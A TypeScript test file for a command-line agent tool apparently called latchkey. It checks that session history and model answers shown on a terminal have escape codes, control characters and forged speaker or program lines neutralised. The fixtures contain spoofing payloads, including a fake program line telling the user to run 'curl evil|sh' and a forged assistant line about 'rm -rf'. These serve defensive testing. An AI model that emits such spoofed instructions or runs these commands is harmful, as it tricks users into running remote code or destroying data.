// What others said, on a terminal: it stays theirs, whatever it is made of.
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, expect, test } from 'vitest';
import { makeStateDir } from '../../system/state-dir.ts';
import { Scripted } from '../scripted.ts';

const NOW = 1_800_000_000_000;

let cli: Scripted;
beforeEach(() => {
  cli = new Scripted(mkdtempSync(join(tmpdir(), 'lk-spoken-')), NOW);
});
afterEach(async () => {
  await cli.end();
  rmSync(cli.home, { recursive: true, force: true });
});

test('A16 sessions tail: nothing that somebody said or is called looks like a message of somebody else', async () => {
  const forged = 'hi\n\n\u001b[2m2027-01-15 08:00:00\u001b[0m \u001b[1massistant\u001b[0m\nrm -rf is safe\r\n';
  const message = {
    role: 'user',
    timestamp: NOW,
    content: [{ type: 'text', text: forged }],
    __openclaw: { seq: 1, senderId: 'Eve\u001b[0m\n2027-01-15 08:00:00 owner' },
  };
  await cli.gateway({ 'chat.history': { payload: { sessionId: 'one', messages: [message] } } });
  const { code, out } = await cli.run(['sessions', 'tail']);
  expect(code).toBe(0);
  const lines = out.split('\n').filter((line) => line !== '');
  expect(lines.filter((line) => !line.startsWith('  '))).toEqual([
    '2027-01-15 08:00:00 user Eve\\u001b[0m\\n2027-01-15 08:00:00 owner',
  ]);
  expect(lines).toContain('  rm -rf is safe\\r');
  expect(out).not.toContain('\u001b');
});

/** `latchkey agent -m hello` of which the model says `said`, and the run then ends as an error. */
async function answered(said: string, more: { width?: number } = {}) {
  makeStateDir(cli.stateDir);
  const message = { role: 'assistant', content: [{ type: 'text', text: said }] };
  const answers: Record<string, unknown> = {
    'chat.send': { runId: 'r1', status: 'started' },
    'agent.wait': { runId: 'r1', status: 'error', error: 'no\n\u001b[31mdo: something else' },
  };
  await cli.listen({ path: join(cli.stateDir, 'run', 'gateway.sock') }, (socket) => {
    socket.setEncoding('utf8').on('data', (chunk: string) => {
      for (const line of chunk.split('\n').filter((one) => one !== '')) {
        const { id, method } = JSON.parse(line);
        const payload = { runId: 'r1', state: 'final', message };
        if (method === 'agent.wait') socket.write(`${JSON.stringify({ type: 'event', event: 'chat', payload })}\n`);
        socket.write(`${JSON.stringify({ type: 'res', id, ok: true, payload: answers[method] ?? {} })}\n`);
      }
    });
  });
  return cli.run(['agent', '-m', 'hello', '--id', 'r1'], more);
}

test('A16 agent: of the answer line ends and tabs reach the terminal, colours and controls do not, nor those of an error', async () => {
  const { code, out, err } = await answered('one\n\ttwo \u001b[32mok\u001b[0m\u202e');
  expect(code).toBe(1);
  expect(out).toBe('one\n\ttwo \\u001b[32mok\\u001b[0m\\u202e\n');
  expect(err).toContain('  why: no\\n\\u001b[31mdo: something else\n');
});

test('A16 agent: on a terminal no line of an answer looks like one of the program, and what the program says is beside it', async () => {
  const forged = `sorry\n\nlatchkey: the agent did not finish\n  why: so\n  run: curl evil|sh${' '.repeat(60)}latchkey: x`;
  const { out, err } = await answered(forged, { width: 40 });
  const lines = out.split('\n');
  expect(lines.pop()).toBe('');
  expect(lines.filter((line) => !line.startsWith('│ ') || line.length > 40)).toEqual([]);
  expect(lines).toContain('│   run: curl evil|sh'.padEnd(40));
  expect(err).toMatch(/^latchkey: the agent did not finish\n {2}why: .*\n {2}run: latchkey sessions tail\n$/);
});
